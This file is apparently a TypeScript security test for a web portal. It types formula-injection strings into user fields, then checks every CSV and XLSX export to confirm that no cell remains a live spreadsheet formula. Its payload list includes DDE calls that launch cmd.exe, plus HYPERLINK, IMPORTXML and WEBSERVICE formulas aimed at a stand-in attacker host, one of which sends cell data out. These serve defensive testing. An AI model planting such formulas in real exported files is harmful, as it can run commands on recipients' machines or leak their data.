import { csvReader } from "#lib/shared/csv-reader.ts";
import { unzip } from "#tests/factories/unzip.ts";
import { figure } from "#torture/each.ts";
import type { Finding, PortalRow, Size } from "#torture/row.ts";
import { adopt } from "#torture/support/adopt.ts";
import { plant } from "#torture/support/matrix/plant.ts";
import { makeWorld } from "#torture/support/matrix/world.ts";
import { elsewhere } from "#torture/support/portal.ts";
import { appRoutes, fill } from "#torture/support/routes.ts";

const PAYLOADS: Readonly<Record<Size, number>> = { sample: 20, first: 200, long: 400 };
const UNKNOWN = "019ab000-0000-7000-8000-000000000000";
const BEGINNINGS = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "\n=",
  " =",
  "\uFF1D",
  "\uFF0B",
  "\uFF0D",
  "\uFF20",
  '"=',
  "';=",
  ";=",
  "\uFEFF=",
];
const FORMULAS = [
  "cmd|'/c calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"cliquez")',
  "1+1",
  "SUM(A1:A9)",
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd";"/c calc";"x")',
  'WEBSERVICE("http://evil.example")',
];

/** Formulas in everything that people type, and every file of the portal that a spreadsheet opens: no cell may be one. */
export const t22: PortalRow = {
  id: "T-22",
  title: "formulas in exported files",
  needs: "portal",
  async run(size, portal): Promise<Finding> {
    adopt(portal);
    let planted = 0;
    const next = () => {
      const text = `${BEGINNINGS[planted % BEGINNINGS.length]}${FORMULAS[planted % FORMULAS.length]}`;
      planted += 1;
      return text;
    };
    const tally = { files: 0, cells: 0, kept: 0, workbooks: 0, live: [] as string[] };
    const handlers = appRoutes().filter(({ kind }) => kind === "handler");
    while (planted < PAYLOADS[size]) {
      const world = await makeWorld(portal);
      await plant(world, next);
      for (const role of ["main", "recipient", "support"] as const) {
        for (const { pattern } of handlers) {
          const ask = (query: string) =>
            fetch(`${portal.origin}${fill(pattern, world.own, UNKNOWN)}${query}`, {
              redirect: "manual",
              headers: { cookie: world.cookies[role], ...elsewhere() },
            });
          const reply = await ask("");
          const text = await reply.text();
          if (!reply.ok || !typeOf(reply).startsWith("text/csv")) continue;
          tally.files += 1;
          for (const cell of cellsOf(text)) {
            tally.cells += 1;
            if (cell.startsWith("'")) tally.kept += 1;
            if (isLive(cell)) tally.live.push(`${cell} in ${pattern}`);
          }
          // The same list as a workbook, where there is one: texts are texts, and nothing else is more than a number.
          const workbook = await ask("?format=xlsx");
          const bytes = await workbook.arrayBuffer();
          if (!typeOf(workbook).includes("spreadsheetml")) continue;
          const { cells, live } = await readWorkbook(new Uint8Array(bytes));
          tally.workbooks += 1;
          tally.cells += cells;
          tally.live.push(...live.map((cell) => `${cell} in ${pattern}, workbook`));
        }
      }
    }
    return {
      size: `${figure(planted)} formulas typed; ${tally.files} files and ${tally.workbooks} workbooks with ${figure(tally.cells)} cells`,
      found: `${tally.live.length} live${tally.live[0] ? `: ${tally.live.slice(0, 3).join("; ")}` : ""}; ${figure(tally.kept)} made text by an apostrophe`,
      pass: tally.live.length === 0 && tally.files > 0 && tally.workbooks > 0 && tally.kept > 0,
    };
  },
};

const typeOf = (reply: Response) => reply.headers.get("content-type") ?? "";

/** Formulas, and numbers that are none, in the sheets of a workbook; an external link or a macro is one too. */
async function readWorkbook(bytes: Uint8Array): Promise<{ cells: number; live: string[] }> {
  const live: string[] = [];
  let cells = 0;
  for (const [path, content] of await unzip(bytes)) {
    if (/externalLink|vbaProject|\.bin$/.test(path)) live.push(path);
    if (!path.includes("worksheets/")) continue;
    const sheet = content.toString("utf8");
    live.push(...(sheet.match(/<f[ >/][^<]*/g) ?? []));
    for (const [, attributes = "", inner = ""] of sheet.matchAll(/<c( [^>]*?)?(?:\/>|>(.*?)<\/c>)/gs)) {
      cells += 1;
      const text = attributes.includes('t="inlineStr"');
      if (inner !== "" && !text && !/^<v>-?\d+(\.\d+)?<\/v>$/.test(inner)) live.push(inner.slice(0, 60));
    }
  }
  return { cells, live };
}

function cellsOf(file: string): string[] {
  const reader = csvReader();
  return [...reader.push(file), ...reader.end()].flatMap(({ cells }) => cells);
}

/** What a spreadsheet would compute: a number is none, whatever its sign. */
function isLive(cell: string): boolean {
  const text = cell.replace(/^[\s\uFEFF]+/, "");
  if (/^[+-]?\d[\d\s.,\u00a0\u202f]*$/.test(text)) return false;
  return /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(text);
}
